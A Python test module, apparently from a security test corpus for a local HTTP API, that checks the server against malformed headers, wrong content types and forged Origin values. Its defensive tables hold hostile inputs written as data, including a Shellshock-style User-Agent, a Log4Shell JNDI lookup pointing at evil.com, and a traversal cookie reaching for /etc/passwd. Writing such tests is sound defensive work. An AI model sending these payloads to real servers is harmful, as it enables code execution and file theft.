"""Header lines that two readers could read in two ways, that are too many, or that lie."""

from tests.threats.corpus.case import (
    BODY,
    HOST,
    JSON,
    LENGTH,
    REFUSED,
    SERVED,
    Case,
    post,
    post_whole,
)

_MALFORMED: tuple[tuple[str, bytes], ...] = (
    ("folded", b"X: a\r\n b\r\n"),
    ("folded by a tab", b"X: a\r\n\tb\r\n"),
    ("folded twice", b"X: a\r\n b\r\n c\r\n"),
    ("folded after nothing", b"X:\r\n b\r\n"),
    ("NUL in a value", b"X: a\0b\r\n"),
    ("NUL in a name", b"X\0: a\r\n"),
    ("CR in a value", b"X: a\rb\r\n"),
    ("CR at the end of a value", b"X: a\r\r\n"),
    ("LF for CR LF", b"X: a\n"),
    ("LF inside", b"X: a\nY: b\r\n"),
    ("LF CR", b"X: a\n\r"),
    ("control byte in a value", b"X: a\x01b\r\n"),
    ("escape in a value", b"X: \x1b[2J\r\n"),
    ("DEL in a value", b"X: a\x7f\r\n"),
    ("space before the colon", b"X : a\r\n"),
    ("tab before the colon", b"X\t: a\r\n"),
    ("space in a name", b"X Y: a\r\n"),
    ("no name", b": a\r\n"),
    ("no colon", b"nothing\r\n"),
    ("control byte in a name", b"X\x01: a\r\n"),
    ("DEL in a name", b"X\x7f: a\r\n"),
    ("high byte in a name", b"X\xff: a\r\n"),
    ("UTF-8 in a name", "Ä: a\r\n".encode()),
    ("parentheses in a name", b"X(): a\r\n"),
    ("a slash in a name", b"X/Y: a\r\n"),
    ("a bracket in a name", b"X[0]: a\r\n"),
    ("a quotation mark in a name", b'"X": a\r\n'),
    ("an at sign in a name", b"X@Y: a\r\n"),
    ("a semicolon in a name", b"X;Y: a\r\n"),
    ("a comma in a name", b"X,Y: a\r\n"),
    ("an equals sign in a name", b"X=Y: a\r\n"),
    ("a name that begins with a space", b" X: a\r\n"),
    ("a value too large", b"X: " + b"a" * 33_000 + b"\r\n"),
    ("a name too large", b"X" * 33_000 + b": a\r\n"),
    ("400 of 100 bytes", b"".join(b"X-%d: %b\r\n" % (n, b"a" * 100) for n in range(400))),
    ("20,000 small ones", b"X: y\r\n" * 20_000),
)

_LIES: tuple[tuple[str, bytes, tuple[int, ...], str], ...] = (
    ("no content type", b"", (415,), "a page may send this unasked"),
    ("plain text", b"Content-Type: text/plain\r\n", (415,), "a page may send this unasked"),
    ("a form", b"Content-Type: application/x-www-form-urlencoded\r\n", (415,), "as above"),
    ("a multipart form", b"Content-Type: multipart/form-data; boundary=x\r\n", (415,), "as above"),
    ("an empty type", b"Content-Type:\r\n", (415,), "nothing is not JSON"),
    ("two types", JSON + b"Content-Type: text/plain\r\n", (415,), "which one is meant?"),
    ("two types in one", b"Content-Type: application/json, text/plain\r\n", (415,), "as above"),
    ("text first", b"Content-Type: text/plain; application/json\r\n", (415,), "a plain text"),
    ("JSON-like", b"Content-Type: application/jsonx\r\n", (415,), "another type"),
    ("JSON lines", b"Content-Type: application/x-ndjson\r\n", (415,), "another type"),
    ("a suffix", b"Content-Type: application/x+json\r\n", (415,), "another type"),
    ("text/json", b"Content-Type: text/json\r\n", (415,), "another type"),
    ("UTF-7", b"Content-Type: application/json; charset=utf-7\r\n", SERVED, "JSON has one charset"),
    ("capitals", b"Content-Type: APPLICATION/JSON\r\n", SERVED, "types have no case"),
)

_HARMLESS: tuple[tuple[str, bytes], ...] = (
    ("an override of the method", b"X-HTTP-Method-Override: DELETE\r\n"),
    ("an override of the path", b"X-Original-URL: /api/v1/engines\r\nX-Rewrite-URL: /api/\r\n"),
    ("a forwarded client", b"X-Forwarded-For: 127.0.0.1\r\nX-Real-IP: 127.0.0.1\r\n"),
    ("a forwarded scheme", b"X-Forwarded-Proto: https\r\nX-Forwarded-Prefix: /x\r\n"),
    ("hop-by-hop tricks", b"Connection: content-type, host, x-api-key\r\n"),
    ("a keep-alive count", b"Keep-Alive: timeout=99999, max=99999\r\n"),
    ("a shell's trick", b"User-Agent: () { :; }; echo x\r\n"),
    ("a template's trick", b"User-Agent: {{7*7}} ${jndi:ldap://evil.com/a}\r\n"),
    ("cookies", b'Cookie: session=../../etc/passwd; a="b\r\n'),
    ("a high byte in a value", b"X: \xff\xfe\r\n"),
    ("a range", b"Range: bytes=0-18446744073709551615\r\n"),
    ("any encoding", b"Accept-Encoding: gzip;q=1, *;q=-5\r\n"),
    ("a strange language", b"Accept-Language: " + b"a," * 5000 + b"\r\n"),
    ("a TE header", b"TE: trailers, deflate;q=0.5\r\n"),
    ("an announced trailer", b"Trailer: Host\r\n"),
    ("the connection's end", b"Connection: close\r\n"),
)  # fmt: skip

_ORIGINS: tuple[bytes, ...] = (
    b"null",
    b"",
    b"http://evil.com",
    b"http://localhost:3000",
    b"http://localhost.evil.com",
    b"http://localhost@evil.com",
    b"http://localhost/",
    b"http://LOCALHOST.evil.com",
    b"localhost",
    b"file://",
    b"ftp://localhost",
    b"http://localhost http://evil.com",
    b"http://localhost, http://evil.com",
    b"*",
    b"chrome-extension://abc",
)


def _chat(lines: bytes) -> bytes:
    return post(lines + b"Content-Length: " + LENGTH + b"\r\n", BODY)


CASES: tuple[Case, ...] = (
    *(
        Case(f"header: {name}", (_chat(lines),), REFUSED, "no reader may guess")
        for name, lines in _MALFORMED
    ),
    *(
        Case(f"type: {name}", (post_whole(BODY, kind=kind),), expect, why, int(expect == SERVED))
        for name, kind, expect, why in _LIES
    ),
    *(
        Case(f"harmless: {name}", (_chat(lines),), SERVED, "means nothing here", 1)
        for name, lines in _HARMLESS
    ),
    *(
        Case(f"origin {origin!r}", (_chat(b"Origin: " + origin + b"\r\n"),), (403,), "another page")
        for origin in _ORIGINS
    ),
    Case("two origins", (_chat(b"Origin: http://localhost\r\n" * 2),), (403,), "which one?"),
    Case(
        "a header behind the end of the head",
        (b"GET /health HTTP/1.1\r\n" + HOST + b"\r\nX: y\r\n\r\n",),
        SERVED,
        "what follows a whole request is nonsense of its own",
    ),
)
